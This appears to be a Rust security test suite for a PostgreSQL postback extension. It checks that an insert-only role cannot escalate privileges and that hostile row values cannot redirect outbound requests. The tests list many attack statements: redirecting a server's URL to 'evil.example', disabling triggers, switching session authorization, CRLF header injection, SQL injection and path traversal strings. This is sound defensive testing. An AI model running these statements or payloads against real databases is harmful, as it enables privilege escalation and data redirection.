//! An application role may insert rows and nothing else: it reads nothing of ours, changes
//! nothing, and sends to nobody but where the server says.

use postgres::Client;
use postgres::error::SqlState;

use crate::administration::upgrade::surface;
use crate::shop::{PATIENCE, Shop, shared_cluster};
use crate::support::{Receiver, wait_for_some};

/// A shop, and a session of a role that may insert players and make objects of its own.
pub fn shop_with_role(name: &'static str) -> (Shop<'static>, Client) {
    let cluster = shared_cluster();
    let mut shop = Shop::open(cluster, name);
    shop.sql(&format!(
        "create role {name} login;
         grant insert on players to {name};
         grant create on database {name} to {name};"
    ));
    let mut role = cluster.connect_as(name, name);
    role.batch_execute("create schema evil; grant usage on schema evil to public")
        .expect("a schema of its own");
    (shop, role)
}

/// The error of statements that must fail.
#[track_caller]
pub fn error_of(client: &mut Client, sql: &str) -> (SqlState, String) {
    let error = client.batch_execute(sql).expect_err(sql);
    let error = error
        .as_db_error()
        .unwrap_or_else(|| panic!("{sql}: {error:?}"));
    (error.code().clone(), error.message().to_owned())
}

#[test]
fn an_application_role_inserts_rows_and_gains_nothing() {
    let (mut shop, mut role) = shop_with_role("hostile_rights");
    let before = surface(&mut shop.client);
    for trigger in [
        "report_lead",
        "report_sale",
        "edit_transaction",
        "check_ddl",
    ] {
        let (code, _) = error_of(&mut role, &format!("select s2s.{trigger}() is null"));
        assert!(code.code().starts_with("39P0"), "{trigger}: {code:?}");
    }
    role.batch_execute("insert into players values (1, null, '0::12345::abc::::1405418672')")
        .expect("an insert");
    shop.wait_until_delivered();
    assert_eq!(shop.received(), [1]);
    let trigger = "after insert on evil.own for each row
                   execute function s2s.report_lead('games_nl', 'transaction_id={id}')";
    role.batch_execute("create table evil.own (id int, click_id s2s.click_id)")
        .expect("a table of its own");
    role.batch_execute("create view evil.callbacks as select * from s2s.callback")
        .expect("a view of its own");
    for sql in [
        "select from s2s.queue",
        "select from s2s.attempt",
        "select from s2s.callback",
        "select from s2s.server_status",
        "select from evil.callbacks",
        "copy s2s.queue to stdout",
        "do $$ begin lock table s2s.queue in access share mode; end $$",
        "select last_value from s2s.queue_id_seq",
        "select nextval('s2s.queue_id_seq')",
        "insert into s2s.queue (server, action, transaction_id, parameters) values ('games_nl', 'lead', '9', '{}')",
        "update s2s.queue set due_at = now()",
        "delete from s2s.attempt",
        "truncate s2s.queue",
        "select s2s.retry(1)",
        "select s2s.retry_parked()",
        "select s2s.cancel(1)",
        "select s2s.callback_url(1)",
        "select s2s.wake()",
        "select s2s.start_worker()",
        "select s2s.wait_until_idle('0s')",
        "select s2s.report_lead('games_nl', '9', 'x')",
        "select s2s.report_sale('games_nl', '9', 1, 'EUR', 'x')",
        "select s2s.edit_transaction('games_nl', '9', approved => false)",
        "select s2s.lead_url('games_nl', '9', 'x')",
        "select s2s.edit_url('games_nl', '9', approved => false)",
        "create table s2s.queue_too ()",
        "create function s2s.wake(int) returns int language sql as 'select 1'",
        "create operator s2s.= (leftarg = int, rightarg = int, function = int4eq)",
        "create type s2s.mine as (a int)",
        "create or replace function s2s.wake() returns void language sql as ''",
        "alter table s2s.queue disable trigger all",
        "alter type s2s.action add value 'theft'",
        "create trigger mine after insert on s2s.queue for each row execute function s2s.report_lead('games_nl')",
        "create rule mine as on insert to s2s.queue do nothing",
        "drop extension \"pgrx-ext\"",
        "alter extension \"pgrx-ext\" drop function s2s.wake()",
        "alter extension \"pgrx-ext\" update",
        "alter event trigger s2s_check_ddl disable",
        "create event trigger mine on ddl_command_end execute function s2s.check_ddl()",
        "create server mine foreign data wrapper postback options (sale_url 'https://evil.example/')",
        "alter server games_nl options (set lead_url 'https://evil.example/')",
        "alter server games_nl rename to mine",
        "create user mapping for current_user server games_nl",
        "alter foreign data wrapper postback no validator",
        "create foreign data wrapper mine validator s2s.postback_validator",
        &format!("create trigger mine {trigger}"),
        &format!("create or replace trigger mine {trigger}"),
        "create constraint trigger mine after insert on evil.own deferrable for each row
             execute function s2s.report_lead('games_nl', 'transaction_id={id}')",
        "create schema evil_too create table own (id int, click_id s2s.click_id)
             create trigger mine after insert on own for each row
                 execute function s2s.report_lead('games_nl', 'transaction_id={id}')",
        "create temp table own (id int, click_id s2s.click_id);
             create trigger mine after insert on pg_temp.own for each row
                 execute function s2s.report_lead('games_nl', 'transaction_id={id}')",
        "create trigger mine after insert on players for each row
             execute function s2s.report_lead('games_nl', 'transaction_id={id}')",
        "create function evil.f() returns trigger language c as '$libdir/pgrx-ext', 'report_lead_trigger_wrapper'",
        "create function evil.f(cstring) returns s2s.click_id language internal as 'textin'",
        "create type evil.mine; create function evil.out(evil.mine) returns cstring language internal as 'textout'",
        "create cast (text as s2s.click_id) without function",
        "create operator class evil.ops default for type s2s.click_id using btree as operator 1 <",
        "load '$libdir/pgrx-ext'",
        "set session_replication_role = replica",
        "set session authorization postgres",
        "alter system set s2s.allow_private_addresses = on",
        "alter database postgres set s2s.enabled = off",
    ] {
        let (code, message) = error_of(&mut role, sql);
        assert_eq!(code, SqlState::INSUFFICIENT_PRIVILEGE, "{sql}: {message}");
    }
    for setting in [
        "allow_private_addresses",
        "max_in_flight",
        "attempt_retention",
        "shutdown_grace",
        "user_agent",
    ] {
        let (code, _) = error_of(&mut role, &format!("set s2s.{setting} = 1"));
        assert_eq!(code, SqlState::CANT_CHANGE_RUNTIME_PARAM, "{setting}");
    }
    let grant = "do $$ begin grant usage on foreign server games_nl to public; end $$";
    let _ = role.batch_execute(grant); // a warning: it grants nothing
    let (code, _) = error_of(&mut role, "select s2s.lead_url('games_nl', '9', 'x')");
    assert_eq!(code, SqlState::INSUFFICIENT_PRIVILEGE);
    role.batch_execute("insert into evil.own values (1, 'x')")
        .expect("its own table is its own");
    shop.wait_until_idle();
    assert_eq!(surface(&mut shop.client), before);
    assert_eq!(shop.received(), [1]);
}

#[test]
fn who_acts_for_another_acts_with_the_rights_of_that_one() {
    let (mut shop, mut role) = shop_with_role("hostile_definer");
    shop.sql("create role hostile_definer_owner; alter table players owner to hostile_definer_owner;
              grant usage on foreign server games_nl to hostile_definer_owner;
              create function enter(id bigint) returns void language sql security definer set search_path = public
                  as $$ insert into players values (id, 'x', 'opaque') $$;
              alter function enter owner to hostile_definer_owner;
              revoke insert on players from hostile_definer");
    role.batch_execute("select public.enter(1)")
        .expect("a function of the table's owner");
    shop.wait_until_delivered();
    assert_eq!(shop.received(), [1]);
    role.batch_execute(
        "create function evil.act() returns bigint language sql security definer as 'select s2s.retry_parked()';
         create function evil.look() returns bigint language sql security definer as 'select count(*) from s2s.queue'",
    )
    .expect("functions of its own");
    for sql in ["select evil.act()", "select evil.look()"] {
        assert_eq!(
            error_of(&mut shop.client, sql).0,
            SqlState::INSUFFICIENT_PRIVILEGE,
            "{sql}"
        );
    }
    // The session's user does not count, the current one does.
    let sql = "set role hostile_definer; select s2s.lead_url('games_nl', '1', 'x')";
    assert_eq!(
        error_of(&mut shop.client, sql).0,
        SqlState::INSUFFICIENT_PRIVILEGE
    );
    shop.sql("reset role");
}

#[test]
fn whatever_a_row_holds_one_request_goes_to_the_servers_host() {
    let (mut shop, mut role) = shop_with_role("hostile_values");
    let elsewhere = Receiver::new();
    let host = elsewhere.address().to_string();
    let url = shop
        .receiver
        .url("/track/{kind}/x?note={note}&click={click_id}");
    shop.sql(&format!(
        "create server tune foreign data wrapper postback options (lead_url '{url}', allow_http 'true');
         create domain public.shout as text;
         create type public.pair as (first text, second public.shout);
         create table notes (id int, kind text, note public.pair, click_id s2s.click_id);
         create trigger report_note after insert on notes for each row execute function
             s2s.report_lead('tune', 'transaction_id={{id}}', 'kind={{kind}}', 'note={{note}}');
         grant insert on notes to hostile_values"
    ));
    for template in [
        "https://{kind}/x",
        "https://{kind}@t.example/",
        "{kind}://t.example/",
        "https://t.example{kind}/",
    ] {
        let server = format!(
            "create server bad foreign data wrapper postback options (lead_url '{template}')"
        );
        assert_eq!(
            error_of(&mut shop.client, &server).0,
            SqlState::INVALID_PARAMETER_VALUE,
            "{template}"
        );
    }
    let mut values = vec![
        "a\r\nHost: evil.example\r\n\r\nGET /evil HTTP/1.1".to_owned(),
        "%0d%0aX: y".to_owned(),
        "'\"; drop table players; --\\".to_owned(),
        "#?&=+/..%2f..".to_owned(),
        "../../admin".to_owned(),
        "\u{202e}é€\u{1F600}".to_owned(),
    ];
    values.extend([
        format!("@{host}/"),
        format!("//{host}/"),
        format!("http://{host}/?"),
    ]);
    for (id, value) in (1i32..).zip(&values) {
        role.execute(
            "insert into public.notes values ($1, $2, row($2::text, $2::text), $3::text::s2s.click_id)",
            &[&id, value, &format!("c-{id}")],
        )
        .expect("an insert");
    }
    shop.wait_until_delivered();
    let requests = shop.receiver.requests();
    assert_eq!(requests.len(), values.len());
    for request in requests {
        assert!(request.target.starts_with("/track/"), "{}", request.target);
        let slashes = request
            .target
            .split('?')
            .next()
            .map(|path| path.matches('/').count());
        assert_eq!(slashes, Some(3), "{}", request.target);
        assert!(request.header("x").is_none());
        assert_eq!(
            request.header("host"),
            Some(shop.receiver.address().to_string().as_str())
        );
        let id: usize = request
            .parameter("click")
            .and_then(|id| id[2..].parse().ok())
            .expect("an id");
        let note = request.parameter("note").expect("a note");
        let value = &values[id - 1];
        let quoted = value.replace('\\', "\\\\").replace('"', "\"\"");
        assert!(note.contains(value) || note.contains(&quoted), "{note}");
    }
    assert_eq!(elsewhere.count(), 0);
    // A step in the path is no place of the network's.
    for (id, value) in [(101i32, "."), (102, "..")] {
        role.execute(
            "insert into public.notes values ($1, $2, null, 'c')",
            &[&id, &value],
        )
        .expect("an insert");
        assert_eq!(shop.status_of(&id.to_string()), "parked");
    }
}

#[test]
fn a_huge_value_is_parked_and_harms_nobody() {
    let (mut shop, mut role) = shop_with_role("hostile_size");
    let worker = wait_for_some(PATIENCE, "a worker runs", || shop.worker_pid());
    shop.sql("drop trigger report_player on players;
              create trigger report_player after insert on players for each row execute function
                  s2s.report_lead('games_nl', 'transaction_id={id}{name}', 'description={name}', 'click_id={name}');
              create trigger report_name after insert on players for each row execute function
                  s2s.report_lead('games_nl', 'transaction_id=n-{id}', 'description_merchant={name}')");
    for (id, length) in [(1i64, 1 << 20), (2, 70_000), (3, 400)] {
        let name = "x".repeat(length);
        role.execute(
            "insert into public.players values ($1, $2, 'opaque')",
            &[&id, &name],
        )
        .expect("an insert");
    }
    shop.wait_until_idle();
    let tids = shop.receiver.values("tid");
    assert_eq!(tids.len(), 2, "{tids:?}");
    let parked =
        "select count(*) from s2s.callback where status = 'parked' and length(last_error) < 1000";
    assert_eq!(shop.number(parked), 4);
    let reason = "select last_error from s2s.queue where transaction_id = 'n-1'";
    assert_eq!(
        shop.text(reason),
        "the URL is too long: It has 1048585 bytes or more; at most 64000 are allowed."
    );
    let log = shop.cluster.log();
    let lines = log.lines().filter(|line| line.contains("@hostile_size"));
    let longest = lines.map(str::len).max();
    assert!(longest.is_some_and(|length| length < 10_000), "{longest:?}");
    assert_eq!(shop.worker_pid(), Some(worker));
}
